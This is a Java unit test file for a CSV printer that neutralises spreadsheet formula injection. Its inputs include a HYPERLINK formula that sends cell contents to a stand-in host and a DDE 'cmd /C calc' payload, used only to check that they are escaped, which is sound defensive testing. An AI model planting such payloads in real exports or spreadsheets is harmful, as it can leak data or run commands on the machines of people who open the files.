package aikpi.platform.csv;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringReader;
import java.math.BigDecimal;
import java.util.Arrays;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

class FormulaSafeCsvPrinterTest {

    private static final CSVFormat FORMAT = CSVFormat.DEFAULT.builder().setRecordSeparator("\n").get();

    private static String line(Object... cells) throws IOException {
        StringBuilder out = new StringBuilder();
        new FormulaSafeCsvPrinter(out, FORMAT).printRecord(cells);
        return out.toString();
    }

    @Test
    void aCellThatWouldStartAFormulaIsPrefixedWithAQuoteAndQuoted() throws IOException {
        assertThat(line("=HYPERLINK(\"http://x.example/?\"&A1,\"open\")", "=1+2", "@SUM(A1)", "+1+2", "-1+2",
                "\tx", "\r=1"))
                .isEqualTo("\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"open\"\")\",\"'=1+2\",\"'@SUM(A1)\","
                        + "\"'+1+2\",\"'-1+2\",\"'\tx\",\"'\r=1\"\n");
        assertThat(line("-cmd|' /C calc'!A0", "-", "=")).isEqualTo("\"'-cmd|' /C calc'!A0\",\"'-\",\"'=\"\n");
    }

    @Test
    void numbersAreWrittenAsTheyAre() throws IOException {
        assertThat(line("-12.50", "+3", "-0.5e3", ".5", "1500", new BigDecimal("-12.50"), new BigDecimal("1E+3"), 42L))
                .isEqualTo("-12.50,+3,-0.5e3,.5,1500,-12.50,1000,42\n");
    }

    @Test
    void otherTextIsWrittenAsCommonsCsvWritesItAndASemicolonOrTabIsQuoted() throws IOException {
        assertThat(line("acme", "a,b", "say \"hi\"", "x;=1+2", "x\t=1+2", "2025-03-14", null, ""))
                .isEqualTo("acme,\"a,b\",\"say \"\"hi\"\"\",\"x;=1+2\",\"x\t=1+2\",2025-03-14,,\n");
    }

    @Test
    void aCsvReaderReadsTheNeutralisedTextBackWithItsQuote() throws IOException {
        List<Object> cells = Arrays.asList("=1+2", "a\"b,c", "-12.50", null, "line\nbreak");
        String text = line(cells.toArray());
        try (CSVParser parser = CSVParser.builder().setReader(new StringReader(text)).setFormat(FORMAT).get()) {
            CSVRecord r = parser.getRecords().get(0);
            assertThat(r.toList()).containsExactly("'=1+2", "a\"b,c", "-12.50", "", "line\nbreak");
        }
    }
}
